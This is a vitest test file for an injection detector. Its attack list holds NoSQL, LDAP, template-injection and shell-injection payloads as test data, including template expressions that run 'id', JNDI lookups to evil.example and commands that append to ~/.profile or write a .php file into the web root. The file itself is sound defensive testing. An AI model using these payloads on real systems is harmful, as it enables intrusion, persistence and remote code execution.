import { expect, test } from 'vitest';
import { detectInjection, type SanitiseProfile, type Threat } from '../sanitise.ts';

/** A dollar sign that no reader of this file takes for a placeholder. */
const $ = '$';

/** Values that leave a query which is no SQL, are evaluated by a template engine, or name a program in unusual ways. */
const ATTACKS: readonly (readonly [id: string, threat: Threat, texts: readonly string[]])[] = [
  [
    'VAL-04.1',
    'sql_injection',
    [
      "'; return this.role == '",
      "' && this.password.match(/^a/)//",
      "';sleep(5000);",
      `', ${$}or: [ {}, { 'a':'a`,
      '*)(|(uid=*))',
      'admin)(&)',
    ],
  ],
  ['VAL-04.2', 'xss', ["{{constructor.constructor('steal()')()}}"]],
  [
    'VAL-04.3',
    'command_injection',
    [
      '{{7*7}}',
      `${$}{7*7}`,
      '<%= 7 * 7 %>',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "{{lipsum.__globals__['os'].popen('id').read()}}",
      '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}',
      `${$}{T(java.lang.Runtime).getRuntime().exec('id')}`,
      '#{T(java.lang.Runtime).getRuntime()}',
      "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
      '<#assign ex="freemarker.template.utility.Execute"?new()>',
      "{{['id']|filter('system')}}",
      '<%= system("id") %>',
      `${$}{jndi:ldap://evil.example/a}`,
      `${$}{${$}{lower:j}ndi:ldap://evil.example/a}`,
    ],
  ],
  [
    'VAL-04.3',
    'command_injection',
    [
      'x;/bin/c?t /etc/hosts',
      'x;$0<<<id',
      'x;. /tmp/x',
      "x && echo 'y' >> ~/.profile",
      'x; export LD_PRELOAD=/tmp/a.so',
      'x > /var/www/x.php',
      '-oProxyCommand=id x',
      '--upload-pack=touch /tmp/x',
    ],
  ],
];

const HONEST: readonly string[] = [
  'id\nname\ndate',
  'go; rust; python; perl',
  'true || false',
  '{{ user.name | upper }}',
  "{{ lookup('env', 'HOME') }}",
  `${$}{{ secrets.TOKEN }}`,
  `\`${$}{item.constructor.name}\` of ${$}{count * 7}`,
  "{% import 'forms.html' as forms %}",
  'It renders {{ 2 * 3 }} as 6, and {{ width * 7 }} too',
  '(&(uid=ann)(|(mail=a*)(mail=b*)))',
  'f(x)(y) of (a)(b)',
  "The boys'; return policy applies",
  '{"age": {"$gte": 18}, "name": {"$ne": "x"}}',
];

const threats = (text: string, profile: SanitiseProfile = 'default'): readonly Threat[] =>
  detectInjection(text, { profile }).map(({ threat }) => threat);

for (const [id, threat, texts] of ATTACKS) {
  test.each(texts)(`${id} ${threat} is seen in %j`, (text) => {
    expect(threats(text)).toContain(threat);
    expect(threats(text, 'strict')).toContain(threat);
  });
}

test.each(HONEST)('VAL-04.6 a template, a filter and a list pass: %j', (text) => {
  expect(threats(text)).toEqual([]);
});

test('VAL-04.1 an operator of a document store is no plain value', () => {
  expect(threats('{"name": {"$ne": "x"}}', 'strict')).toContain('sql_injection');
});
